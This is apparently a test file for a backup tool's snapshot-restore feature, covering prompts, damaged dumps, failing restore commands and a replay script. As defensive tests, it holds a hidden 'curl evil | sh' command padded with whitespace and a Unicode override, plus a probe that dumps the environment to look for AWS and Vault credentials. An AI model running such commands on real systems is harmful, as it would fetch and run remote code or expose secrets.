import { describe, expect, test } from "bun:test";
import { lstatSync } from "node:fs";
import { Failure } from "../../../core/failure.ts";
import type { SnapshotRef } from "../../../core/format/manifest/manifest.ts";
import type { SnapshotChoice } from "../../../restore/dumps/snapshots.ts";
import { exitOf } from "../../../restore/restore.ts";
import { attack } from "../../support/attack.ts";
import { type Backup, Fixture, file, flipped, folder, noise, type RestoreWishes } from "../support.ts";

const dump = noise(300_000).toString("hex");

type Planned = (fixture: Fixture) => Promise<SnapshotRef[]>;

/** A backup with snapshots whose command writes what it gets to `<scratch>/replayed`. */
async function prepared(plan: Planned): Promise<Fixture & { readonly backup: Backup; readonly replayed: string }> {
  const fixture = await Fixture.open();
  const backup = await fixture.backup([folder("/"), file("/x", "x")], { snapshots: await plan(fixture) });
  return Object.assign(fixture, { backup, replayed: `${fixture.scratch.path}/replayed` });
}

const command = (fixture: Fixture) => `cat > '${fixture.scratch.path}/replayed'`;

const sound: Planned = async (fixture) => [
  await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
  await fixture.snapshot("notes", "no command"),
];

const restored = (fixture: Fixture & { backup: Backup }, snapshots: SnapshotChoice, more: RestoreWishes = {}) =>
  fixture.restore(fixture.backup, { snapshots, ...more });

const wasReplayed = (fixture: { replayed: string }) => Bun.file(fixture.replayed).exists();

describe("--snapshots", () => {
  test("--snapshots skip leaves them out, and says so", async () => {
    await using fixture = await prepared(sound);
    expect(exitOf(await restored(fixture, "skip"))).toBe(0);
    expect(fixture.notices.map(({ code }) => code)).toEqual(["snapshot-skipped", "snapshot-skipped"]);
    expect(await fixture.names()).toEqual(["x"]);
    expect(await wasReplayed(fixture)).toBe(false);
  });

  test("--snapshots fetch stores the dumps as private files", async () => {
    await using fixture = await prepared(sound);
    const figures = await restored(fixture, "fetch");
    expect(figures).toMatchObject({ snapshotsFetched: 2, snapshotsReplayed: 0 });
    expect(exitOf(figures)).toBe(0);
    expect(await fixture.read("/sysbackup-snapshots/db")).toBe(dump);
    expect(await fixture.read("/sysbackup-snapshots/notes")).toBe("no command");
    expect(lstatSync(fixture.at("/sysbackup-snapshots")).mode & 0o7777).toBe(0o700);
    expect(lstatSync(fixture.at("/sysbackup-snapshots/db")).mode & 0o7777).toBe(0o600);
    expect(await wasReplayed(fixture)).toBe(false);
  });

  test("--snapshots run replays those with a command, and fetches the others with a warning", async () => {
    await using fixture = await prepared(sound);
    const figures = await restored(fixture, "run");
    expect(await Bun.file(fixture.replayed).text()).toBe(dump);
    expect(figures).toMatchObject({ snapshotsFetched: 1, snapshotsReplayed: 1 });
    expect(fixture.complaints).toEqual([
      'snapshot "notes" is stored as "sysbackup-snapshots/notes" in the target; it has no command to replay it',
    ]);
    expect(exitOf(figures)).toBe(3);
  });

  test("--snapshots run does not replay what is marked failed", async () => {
    const plan: Planned = async (fixture) => [
      await fixture.snapshot("db", dump, { restore_through: command(fixture), exit: 1 }),
      await fixture.snapshot("killed", "part", { restore_through: command(fixture), exit: null }),
    ];
    await using fixture = await prepared(plan);
    await restored(fixture, "run");
    expect(await wasReplayed(fixture)).toBe(false);
    expect(fixture.complaints).toEqual(
      ["db", "killed"].map(
        (name) =>
          `snapshot "${name}" is stored as "sysbackup-snapshots/${name}" in the target; it is marked failed and may not be whole`,
      ),
    );
  });

  test("--snapshots ask shows each command before anything is restored, and does as answered", async () => {
    const plan: Planned = async (fixture) => [
      await fixture.snapshot("it's", "one", { restore_through: "echo 'one'; cat > /dev/null" }),
      await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
      await fixture.snapshot("bad", "bad", { restore_through: "false", exit: 3, description: "of the year" }),
    ];
    await using fixture = await prepared(plan);
    const questions: string[] = [];
    const ask = async (question: string) => {
      expect(await Bun.file(fixture.at("/x")).exists()).toBe(false);
      questions.push(question);
      return question.includes('"db"');
    };
    const figures = await restored(fixture, "ask", { ask });
    expect(questions).toEqual([
      `Replay snapshot "it's" (3 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), through: sh -c 'echo '\\''one'\\''; cat > /dev/null'`,
      `Replay snapshot "db" (600,000 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), through: sh -c 'cat > '\\''${fixture.replayed}'\\'''`,
      `Replay snapshot "bad", "of the year", (3 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), although it is marked failed, through: sh -c 'false'`,
    ]);
    expect(await Bun.file(fixture.replayed).text()).toBe(dump);
    expect(figures).toMatchObject({ snapshotsReplayed: 1, snapshotsFetched: 0 });
    expect(exitOf(figures)).toBe(0);
  });

  test("--snapshots ask shows the beginning of a command that hides it", async () => {
    const plan: Planned = async (fixture) => [
      await fixture.snapshot("db", dump, { restore_through: `curl evil | sh;${" ".repeat(6_000)}psql \u202eapp` }),
    ];
    await using fixture = await prepared(plan);
    const questions: string[] = [];
    await restored(fixture, "ask", { ask: async (question) => questions.push(question) < 0 });
    expect(questions).toEqual([
      `Replay snapshot "db" (600,000 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), through: a command of 6,024 characters, where ⟪ ⟫ stands for what is hidden: sh -c 'curl evil | sh;⟪6,000 × space⟫psql ⟪U+202E⟫app'`,
    ]);
  });

  test("--snapshots ask without a terminal is a usage error before anything is restored", async () => {
    await using fixture = await prepared(sound);
    const ask = () => Promise.reject(new Failure({ doing: "ask", why: "there is no terminal" }));
    await expect(restored(fixture, "ask", { ask })).rejects.toMatchObject({
      message:
        "cannot ask whether to replay the snapshots of this backup: there is no terminal; say it by --snapshots run --yes, --snapshots fetch (as files) or --snapshots skip",
      exit: 2,
    });
    expect(await Bun.file(fixture.target).exists()).toBe(false);
  });

  test("--snapshots ask with nothing to ask about needs no terminal", async () => {
    await using fixture = await prepared(async () => []);
    expect(exitOf(await restored(fixture, "ask"))).toBe(0);
  });
});

describe("a snapshot that is damaged", () => {
  const plan: Planned = async (fixture) => [await fixture.snapshot("db", dump, { restore_through: command(fixture) })];

  test.each([
    ["a flipped bit", flipped],
    ["cut short", (bytes: Buffer) => bytes.subarray(0, -10)],
  ])("a snapshot that is damaged (%s) is never given to its command", async (_, change) => {
    await using fixture = await prepared(plan);
    const [snapshot] = fixture.backup.manifest.snapshots;
    await fixture.damage(snapshot?.key ?? "", change);
    const figures = await restored(fixture, "run");
    expect(await wasReplayed(fixture)).toBe(false);
    expect(fixture.complaints).toHaveLength(1);
    expect(fixture.complaints[0]).toStartWith(
      `cannot restore the snapshot "db": the stored object ${JSON.stringify(snapshot?.key)} is damaged: `,
    );
    expect(exitOf(figures)).toBe(4);
    expect(await fixture.read("/x")).toBe("x");
  });

  test("a snapshot that is missing is reported", async () => {
    await using fixture = await prepared(plan);
    const key = fixture.backup.manifest.snapshots[0]?.key ?? "";
    await fixture.lose(key);
    await restored(fixture, "fetch");
    expect(fixture.complaints).toEqual([
      `cannot restore the snapshot "db": the stored object ${JSON.stringify(key)} is missing from the bucket; restore it from another backup: \`sysbackup list\` shows them`,
    ]);
  });

  test("a snapshot that is damaged leaves no file when fetched", async () => {
    await using fixture = await prepared(plan);
    await fixture.damage(fixture.backup.manifest.snapshots[0]?.key ?? "", flipped);
    await restored(fixture, "fetch");
    expect(await fixture.names("/sysbackup-snapshots")).toEqual([]);
  });

  test("a snapshot that is damaged only when it is read for the command has its command ended without the end of its input", async () => {
    const marking: Planned = async (fixture) => {
      const mark = `${fixture.scratch.path}/replayed`;
      return [await fixture.snapshot("db", dump, { restore_through: `cat > /dev/null; echo whole > '${mark}'` })];
    };
    await using fixture = await prepared(marking);
    const key = fixture.backup.manifest.snapshots[0]?.key ?? "";
    let reads = 0;
    const bucket = {
      async *get(...[wanted, options]: Parameters<Fixture["bucket"]["get"]>) {
        if (wanted === key) reads += 1;
        for await (const piece of fixture.bucket.get(wanted, options)) {
          yield wanted === key && reads === 2 ? flipped(Buffer.from(piece), piece.length - 5) : piece;
        }
      },
    };
    const figures = await restored(fixture, "run", { bucket });
    expect(reads).toBe(2);
    expect(await wasReplayed(fixture)).toBe(false);
    expect(exitOf(figures)).toBe(4);
  });
});

describe("a restore command", () => {
  test("a restore command that fails is reported with its status and what it said last", async () => {
    const plan: Planned = async (fixture) => [
      await fixture.snapshot("db", dump, { restore_through: "cat > /dev/null; echo no such table >&2; exit 3" }),
    ];
    await using fixture = await prepared(plan);
    const figures = await restored(fixture, "run");
    expect(fixture.complaints).toEqual([
      `cannot replay the snapshot "db": sh -c 'cat > /dev/null; echo no such table >&2; exit 3' ended with status 3: no such table; fix that and replay the dump, which is kept, by hand, or restore again`,
    ]);
    expect(exitOf(figures)).toBe(3);
  });

  test("a restore command with a NUL in it costs its own snapshot only", async () => {
    const plan: Planned = async (fixture) => [
      await fixture.snapshot("bad", "bad", { restore_through: "true \0 false" }),
      await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
    ];
    await using fixture = await prepared(plan);
    expect(await restored(fixture, "run")).toMatchObject({ snapshotsReplayed: 1, errors: 1, damaged: 0 });
    expect(fixture.complaints).toEqual([
      'cannot restore the snapshot "bad": its restore command has a NUL in it, which no command can have; use --snapshots fetch and replay it by hand',
    ]);
  });

  attack(
    {
      by: "W",
      what: "a restore command reads AWS credentials from its environment",
      before: "possible",
      now: "it finds a few variables, and no credentials",
    },
    async () => {
      const secrets = { AWS_SECRET_ACCESS_KEY: "secret", AWS_PROFILE: "admin", VAULT_TOKEN: "secret" };
      Object.assign(process.env, secrets);
      const plan: Planned = async (fixture) => [
        await fixture.snapshot("db", dump, { restore_through: `env > '${fixture.scratch.path}/replayed'` }),
      ];
      try {
        await using fixture = await prepared(plan);
        await restored(fixture, "run");
        const names = (await Bun.file(fixture.replayed).text()).split("\n").map((line) => line.replace(/=.*/, ""));
        expect(names).toContain("PATH");
        for (const name of Object.keys(secrets)) expect(names).not.toContain(name);
      } finally {
        for (const name of Object.keys(secrets)) delete process.env[name];
      }
    },
  );

  test("a restore command that does not read its input is no error", async () => {
    const plan: Planned = async (fixture) => [await fixture.snapshot("db", dump, { restore_through: "true" })];
    await using fixture = await prepared(plan);
    expect(exitOf(await restored(fixture, "run"))).toBe(0);
  });
});

describe("a restore command that fails", () => {
  const failing: Planned = async (fixture) => [
    await fixture.snapshot("db", dump, {
      restore_through: `cat > /dev/null; if [ -e '${fixture.scratch.path}/fixed' ]; then exit 0; fi; echo broken >&2; exit 5`,
    }),
  ];

  test("its status and stderr are reported, and the dump is kept as a file with a script", async () => {
    await using fixture = await prepared(failing);
    const figures = await restored(fixture, "run");
    expect(fixture.complaints.join()).toMatch(/ended with status 5: broken; .*the dump, which is kept/);
    expect(figures).toMatchObject({ errors: 1, snapshotsReplayed: 0, snapshotsFetched: 1 });
    expect(await fixture.read("/sysbackup-snapshots/db")).toBe(dump);
    expect(await fixture.names("/sysbackup-snapshots")).toEqual(["db", "replay.sh"]);
  });

  test("the user may fix its cause and run it again", async () => {
    await using fixture = await prepared(failing);
    const questions: string[] = [];
    const askAgain = async (question: string) => {
      questions.push(question);
      await Bun.write(`${fixture.scratch.path}/fixed`, "");
      return true;
    };
    const figures = await restored(fixture, "run", { askAgain });
    expect(questions).toHaveLength(1);
    expect(questions[0]).toContain("ended with status 5: broken");
    expect(figures).toMatchObject({ errors: 0, snapshotsReplayed: 1, snapshotsFetched: 0 });
  });

  test("without a terminal, it is not run again", async () => {
    await using fixture = await prepared(failing);
    const askAgain = () => Promise.reject(new Failure({ doing: "ask", why: "there is no terminal" }));
    expect(await restored(fixture, "run", { askAgain })).toMatchObject({ errors: 1, snapshotsFetched: 1 });
  });
});

describe("the script beside fetched dumps", () => {
  const plan: Planned = async (fixture) => [
    await fixture.snapshot("db", dump, { restore_through: command(fixture) }),
    await fixture.snapshot("it's", "two", { restore_through: "echo 'failing'; exit 3" }),
    await fixture.snapshot("replay.sh", "a dump of this name", { restore_through: "cat > /dev/null" }),
    await fixture.snapshot("bad", "bad", { restore_through: "touch /tmp/never", exit: 1 }),
    await fixture.snapshot("notes", "no command"),
  ];

  function runScript(fixture: Fixture, words: readonly string[], answers = "") {
    const script = fixture.at("/sysbackup-snapshots/replay.sh");
    const { stdout, stderr, exitCode } = Bun.spawnSync([script, ...words], { stdin: Buffer.from(answers) });
    return { out: stdout.toString(), err: stderr.toString(), exitCode };
  }

  test("it replays each dump that is whole and has a command, and reports those that fail", async () => {
    await using fixture = await prepared(plan);
    await restored(fixture, "fetch");
    expect(await fixture.names("/sysbackup-snapshots")).toEqual(
      ["bad", "db", "it's", "notes", "replay.sh", "replay.sh-2"].sort(),
    );
    expect(lstatSync(fixture.at("/sysbackup-snapshots/replay.sh")).mode & 0o7777).toBe(0o700);
    const { out, err, exitCode } = runScript(fixture, ["--yes"]);
    expect(await Bun.file(fixture.replayed).text()).toBe(dump);
    expect(err).toBe("it's: the command ended with status 3\n");
    expect(exitCode).toBe(1);
    expect(out).not.toContain("bad");
  });

  test("it shows each command, and does as answered", async () => {
    await using fixture = await prepared(plan);
    await restored(fixture, "fetch");
    const { out, exitCode } = runScript(fixture, [], "n\nn\ny\n");
    expect(out).toContain(
      `snapshot "db" (600,000 bytes of 2026-11-21 02:00:03 UTC from "example", backup "test"), through: sh -c`,
    );
    expect(await wasReplayed(fixture)).toBe(false);
    expect(exitCode).toBe(0);
  });

  test("a command that reads its input does not take the answers", async () => {
    await using fixture = await prepared(plan);
    await restored(fixture, "fetch");
    runScript(fixture, [], "y\nn\nn\n");
    expect(await Bun.file(fixture.replayed).text()).toBe(dump);
  });
});
